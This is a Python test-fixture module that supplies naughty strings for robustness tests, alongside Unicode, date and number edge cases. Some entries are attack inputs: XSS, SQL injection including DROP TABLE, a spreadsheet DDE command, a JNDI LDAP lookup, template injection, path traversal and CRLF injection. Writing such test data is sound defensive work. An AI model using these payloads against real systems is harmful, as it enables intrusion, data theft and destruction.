"""Texts that have broken other programs: the Big List of Naughty Strings, and our own."""

import base64
import json
from functools import cache
from pathlib import Path

_FILE = Path(__file__).parent / "strings.base64.json"

# What the list lacks. Half a pair and NUL can't be kept by any database: those are refused, never repaired.
NULS = ("a\x00b", "\x00")
UNSTORABLE = (*NULS, "\ud83d", "\udc00 second half alone", "x\udfff\ud800y")
OWN = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "'=1+1", "''@x", "＝1+1", "＋1", "－1", "＠x",
    '=HYPERLINK("http://x.example";"y")', "=cmd|' /C calc'!A0", '";=1+1;"',
    "line\nbreak", "line\r\nbreak", "old\rMac", "line\u2028separator", "paragraph\u2029separator", "next\x85line",
    "a\x0bvertical\x0cform", "bell\x07", "escape\x1b[31mred", "delete\x7f", "c1\x9b31m", "\ufeffmark", "mark\ufeff",
    "\ufffe", "\uffff", "\U0010ffff", "replacement\ufffd", "\u202eright to left", "\u2066isolate\u2069", "\u2067open",
    "zero\u200bwidth", "\u200b", "\u200d", "join\u200der", "soft\u00adhyphen", "no\u00a0break", "\u3000wide\u3000",
    "e" + "\u0301" * 300, "👩‍👩‍👧‍👦" * 20, "🇵🇱🇺", "ﬁ ligature", "ǅ", "İstanbul", "ß", "ς", "\u1e9e",
    "0000-01-01", "0001-01-01", "9999-12-31", "10000-01-01", "0001-01-01T00:00", "9999-12-31T23:59:59+00:00",
    "0001-01-02T00:00", "9999-12-30T23:59-14:00", "2026-02-30", "2026-W01-1", "20260101", "2026-11-22T25:00",
    "NaN", "sNaN", "-NaN", "Infinity", "-inf", "1e400", "-1e400", "1e-400", "-0", "-0.0", "1e999999999", "0x1F",
    "1_000", "１２３", "١٢٣", "१२३", "²", "½", "Ⅷ", "1.2.3", "1,2,3.4", ".", ",", "-", "+", "e1", "1e",
    "99999999999999999", "999999999999.999999", "-999999999999.9999999", "9" * 40, "9" * 5000, "0." + "0" * 30 + "1",
    "%s", "%(name)s", "%(deal)s", "%d %n %x", "100%", "%", "{0}", "{name}", "{0.__class__}", "${7*7}", "#{7*7}",
    "{{ 7*7 }}", "{% raw %}", "{{ self.__init__.__globals__ }}", "{# comment", "{{ config }}", "${jndi:ldap://x}",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' onfocus=alert(1) autofocus='", "</textarea><b>",
    "</title><svg/onload=alert(1)>", "<!--", "-->", "]]>", "<![CDATA[", "&lt;b&gt;", "&amp;amp;", "&#60;", "&notit;",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,x", "vbscript:x", "//evil.example", "/\\evil.example", "\\\\evil.example", "https:evil.example", "http://",
    "https://[", "https://[::1", "http://a b.example", "https://user:pass@evil.example", "https://例え.テスト", "http://x:99999999/",
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\con", "CON", "nul.txt", ".htaccess", "a/b", "~root", "file:///x",
    "'; DROP TABLE deal; --", "' OR 1=1 --", "\\", "\\'", "\\0", "%00", "%0d%0aSet-Cookie: a=b", "_", "%_%", "\\%",
    "a@b", "a@b.c", "anna@example.com", "a@b.c\r\nBcc: x@y.z", '"a b"@c.d', "ąęść@żółw.pl", "<anna@example.com>",
    "+48 600 100 200", "+1" * 9, "112", "+٤٨٦٠٠١٠٠٢٠٠", "(((((", "1" * 20, "name:x", "new:x", "new:", "custom.budget",
    "null", "true", "[]", "{}", "[object Object]", "constructor", "__proto__", "toString", "None", "undefined",
    " ", "\t", "\n", "\r\n\r\n", "  both ends  ", "x" * 200, "x" * 201, "ж" * 200, "𝔘𝔫𝔦" * 60,
)  # fmt: skip


@cache
def listed() -> tuple[str, ...]:
    """The 515 strings of the list."""
    return tuple(base64.b64decode(each).decode() for each in json.loads(_FILE.read_text()))


def storable() -> tuple[str, ...]:
    """Every text that can be kept."""
    return tuple(dict.fromkeys((*listed(), *OWN)))


def every() -> tuple[str, ...]:
    """Every text, with those that no database keeps."""
    return (*storable(), *UNSTORABLE)


def sample(count: int) -> tuple[str, ...]:
    """Some of each sort, always the same."""
    texts = every()
    return texts[:: max(1, len(texts) // count)]
